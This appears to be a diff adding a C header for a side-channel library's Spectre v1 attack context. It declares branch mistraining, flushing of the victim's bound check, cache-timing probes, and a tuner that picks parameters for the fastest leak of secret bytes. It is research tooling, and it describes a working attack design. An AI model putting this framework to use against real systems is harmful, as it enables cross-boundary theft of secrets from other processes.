@@ -0,0 +1,144 @@
+// This module implements a reusable context for Spectre v1 (bounds check
+// bypass) attacks. A context owns everything a round of the attack needs: the
+// probe array (one line per possible byte value), the addresses to flush
+// before each victim call (such as the bound the victim checks against), the
+// training schedule, and buffers for the round's results. Everything is
+// allocated up front, so running a round performs no heap allocation at all.
+//
+// A round mistrains the victim's branch with a number of in-bounds calls,
+// makes one out-of-bounds ("malicious") call, repeats that a number of times,
+// then reloads every line of the probe array. The victim is supplied as a
+// function that, given an index, performs the bounds-checked access; the
+// byte it leaks should select the probe line it touches.
+
+#ifndef LIBSCA_SPECTRE_H
+#define LIBSCA_SPECTRE_H
+
+// Imports
+#include <stdio.h>
+#include <stddef.h>
+#include <stdint.h>
+#include "symbols.h"
+#include "error.h"
+#include "libsca.h"
+#include "region.h"
+#include "hitvec.h"
+
+// Number of lines in the probe array (one per possible byte value)
+#define LIBSCA_SPECTRE_LINES LIBSCA_HITVEC_BITS
+// Maximum number of addresses that can be flushed before each victim call
+#define LIBSCA_SPECTRE_MAX_FLUSH 8
+
+
+// ============================ Spectre Context ============================= //
+// A Spectre v1 attack context.
+typedef struct LS(spectre)
+{
+    // the probe array: line 'i' is at 'probe + (i * stride)'
+    PS(region_t) region;        // pre-faulted, locked, and guarded memory
+    uint8_t* probe;             // base of the probe array
+    size_t stride;              // distance between probe lines (in bytes)
+
+    // the victim: called with an index to perform the bounds-checked access
+    void (*victim)(size_t index, void* arg);
+    void* arg;                  // passed to every victim call
+
+    // how each round is run (these may be changed between rounds)
+    unsigned int training;      // in-bounds calls before each malicious call
+    unsigned int attempts;      // malicious calls per round
+    unsigned int delay;         // iterations to spin before each victim call
+    void* flush[LIBSCA_SPECTRE_MAX_FLUSH];  // flushed before each victim call
+    size_t flush_count;         // number of used 'flush' entries
+
+    // how probe lines are judged to be hits
+    PE(probe_e) mode;           // reload instruction
+    unsigned long threshold;    // probes this fast (or faster) are hits
+    PS(classifier_t)* classifier; // if non-NULL, hits are non-DRAM probes
+    PS(hitvec_t) ignore;        // lines left out of the scores (such as the
+                                // ones the training calls touch)
+
+    // results
+    uint8_t order[LIBSCA_SPECTRE_LINES];            // reload order
+    unsigned long timings[LIBSCA_SPECTRE_LINES];    // last round's timings
+    PS(hitvec_t) hits;          // lines that hit in the last round
+    PS(hitscore_t) scores;      // per-line hits, summed since the last reset
+} PS(spectre_t);
+
+// Initializes a context for the given victim function, mapping its probe
+// array. The schedule and threshold start out with reasonable defaults.
+// The context must be freed with 'spectre_free()'.
+// Returns a result enum.
+PE(result_e) PF(spectre_init)(PS(spectre_t)* sp,
+                              void (*victim)(size_t index, void* arg),
+                              void* arg,
+                              PE(probe_e) mode);
+
+// Adds an address to flush before every victim call. (Flushing the variable
+// a victim's bounds check depends on widens the speculation window.)
+// Returns a result enum.
+PE(result_e) PF(spectre_add_flush)(PS(spectre_t)* sp, void* addr);
+
+// Runs one round of the attack: the probe array is flushed, the victim is
+// called 'attempts' times with 'malicious_index', each time after 'training'
+// calls with 'training_index', and the probe array is reloaded. The round's
+// timings and hits are stored in the context, and its hits (except for those
+// in 'ignore') are added to the context's scores.
+// The choice between the two indexes is made without branching, so the
+// attacker's own loop doesn't train the branch predictor.
+void PF(spectre_run_round)(PS(spectre_t)* sp, size_t training_index,
+                           size_t malicious_index);
+
+// Zeroes the context's scores (such as before attacking the next byte).
+void PF(spectre_reset)(PS(spectre_t)* sp);
+
+// Frees the context's memory.
+void PF(spectre_free)(PS(spectre_t)* sp);
+
+
+// ================================= Tuning ================================= //
+// The results of tuning a context.
+typedef struct LS(spectre_tune)
+{
+    unsigned int training;      // best training calls per malicious call
+    unsigned int delay;         // best delay before each victim call
+    unsigned long threshold;    // best hit threshold
+    double accuracy;            // fraction of bytes leaked correctly
+    double rate;                // bytes leaked correctly per second
+    unsigned int evaluations;   // number of parameter sets tried
+} PS(spectre_tune_t);
+
+// Searches for the schedule and threshold that leak the most correct bytes
+// per second. Each parameter set is evaluated by leaking every byte of a
+// known secret with 'steal()', which must attack the byte at 'offset' with
+// 'trials' rounds and return the leaked byte (or -1 if nothing was leaked).
+// The parameters are searched one at a time (threshold, training calls, then
+// the delay, and the threshold once more), keeping the others at their best
+// values so far; threshold candidates are spread between the hit and miss
+// medians measured for the context's probe mode. (The threshold is left
+// alone if the context uses a classifier.)
+// The context is left configured with the best parameters found, which are
+// also written to 'result'. If 'log' is non-NULL, each evaluation is printed
+// to it.
+// Returns a result enum.
+PE(result_e) PF(spectre_tune)(PS(spectre_t)* sp,
+                              int (*steal)(PS(spectre_t)* sp, size_t offset,
+                                           unsigned int trials, void* arg),
+                              void* arg,
+                              const uint8_t* secret,
+                              size_t secret_len,
+                              unsigned int trials,
+                              PS(spectre_tune_t)* result,
+                              FILE* log);
+
+// Writes the context's probe mode, schedule, and threshold to a profile at
+// the given path, as lines of "key value" pairs.
+// Returns a result enum.
+PE(result_e) PF(spectre_profile_save)(PS(spectre_t)* sp, const char* path);
+
+// Loads a profile written by 'spectre_profile_save()' into the context.
+// Keys missing from the profile are left unchanged, and unknown keys are
+// ignored.
+// Returns a result enum.
+PE(result_e) PF(spectre_profile_load)(PS(spectre_t)* sp, const char* path);
+
+#endif